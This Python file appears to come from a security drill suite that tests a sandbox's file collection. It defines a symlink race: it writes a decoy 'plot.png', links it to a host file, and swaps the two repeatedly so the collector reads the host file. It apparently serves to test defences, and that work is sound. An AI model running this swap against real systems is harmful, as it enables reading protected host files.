"""Swaps a file and a link to a file of the host, on and on, while the run ends."""

from __future__ import annotations

from typing import Any

from drills.attacks.attack import Attack
from drills.attacks.steps.homecoming import came_home, homecoming
from drills.attacks.steps.restless import exchange, outrun, restless
from drills.attacks.steps.secrets import holds


def probe(given: dict[str, Any]) -> str | None:
    import os

    with open("plot.png", "w") as file:
        file.write("honest work\n")
    os.symlink(given["files"][0], "link")
    pid = restless(given, exchange("plot.png", "link"))
    return outrun(given, "plot.png", "plot.png", pid) if given["careless"] else None


ATTACK = Attack(
    probe,
    expects="whoever is collected from is dead, and what is opened is no link",
    uses=(holds, exchange, restless, outrun),
    drive=homecoming,
    judge=came_home,
)
